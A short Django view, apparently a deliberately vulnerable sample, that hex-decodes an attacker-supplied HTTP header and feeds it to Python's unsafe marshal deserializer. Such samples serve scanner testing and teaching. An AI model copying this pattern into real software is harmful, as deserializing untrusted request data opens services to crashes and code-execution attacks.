import binascii
import marshal
from django.http import HttpResponse


def view(request):
    data = request.META.get("HTTP_X_Q", "")
    code = marshal.loads(binascii.unhexlify(data))
    return HttpResponse("ok")
